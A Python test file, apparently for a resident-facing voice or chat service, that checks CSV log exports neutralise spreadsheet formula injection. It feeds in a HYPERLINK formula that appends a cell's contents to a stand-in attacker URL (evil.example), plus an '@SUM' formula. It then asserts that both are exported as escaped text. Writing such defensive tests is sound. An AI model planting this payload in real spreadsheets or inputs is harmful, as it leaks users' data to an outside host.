"""CSV downloads: residents' text never becomes a spreadsheet formula."""

import csv
import io

from tests.support.dialog import OPERATOR_HEADERS


def test_a_question_written_as_a_formula_is_text_in_the_download(client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
    client.post("/api/voice/process", json={"message": formula, "session_id": "csv-1"})
    client.post("/api/voice/process", json={"message": "@SUM(1+1)", "session_id": "csv-2"})

    table = client.get("/api/voice/logs?format=csv", headers=OPERATOR_HEADERS)

    rows = list(csv.DictReader(io.StringIO(table.text.lstrip("\ufeff"))))
    questions = {row["user_message"] for row in rows}
    assert "'" + formula in questions and "'@SUM(1+1)" in questions
    assert all(not q.startswith(("=", "+", "-", "@")) for q in questions)
    assert {row["session_id"] for row in rows} == {"csv-1", "csv-2"}, "plain text is untouched"
